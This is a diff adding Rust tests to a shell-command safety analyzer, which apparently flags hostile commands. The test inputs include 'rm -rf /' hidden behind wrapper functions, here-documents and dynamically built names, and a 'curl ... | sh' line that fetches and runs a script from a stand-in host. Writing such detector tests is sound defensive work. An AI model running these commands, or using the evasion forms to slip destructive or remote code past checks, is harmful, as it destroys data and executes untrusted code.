@@ -688,6 +688,25 @@ fn a_definitions_walk_is_dropped_when_its_one_call_was_walked() {
     // Evasions through a call are still seen at the call.
     assert_rm_rf_root("clean() { rm -rf \"$1\"; }; clean /");
     assert_rm_rf_root("inner() { rm -rf \"$1\"; }; outer() { inner \"$1\"; }; outer /");
+    // A finding is kept once, where first found: one the call finds again stays when the
+    // definition's walk goes.
+    let an = a("run() { \"$@\"; }; run $X");
+    assert!(
+        has_finding(&an, |f| matches!(f, ShellFinding::DynamicProgram { .. })),
+        "{an:#?}"
+    );
+    let an = a("f() { curl -s https://x.example/i.sh | sh; }; f");
+    assert!(
+        has_finding(&an, |f| matches!(
+            f,
+            ShellFinding::InterpreterFromPipe { .. }
+        )),
+        "{an:#?}"
+    );
+    let an = a("run() { \"$@\"; }; run ls");
+    assert!(an.findings.is_empty(), "{:?}", an.findings);
+    // A here-document in the body is read at the call too.
+    assert_rm_rf_root("f() {\nbash <<'EOF'\nrm -rf /\nEOF\n}; f");
     // A call whose name is built, not written, is walked as one too.
     assert_rm_rf_root("clean() { rm -rf \"$1\"; }; clean build; n=cle; ${n}an /");
     assert_rm_rf_root("clean() { rm -rf \"$1\"; }; clean build; $(echo clean) /");
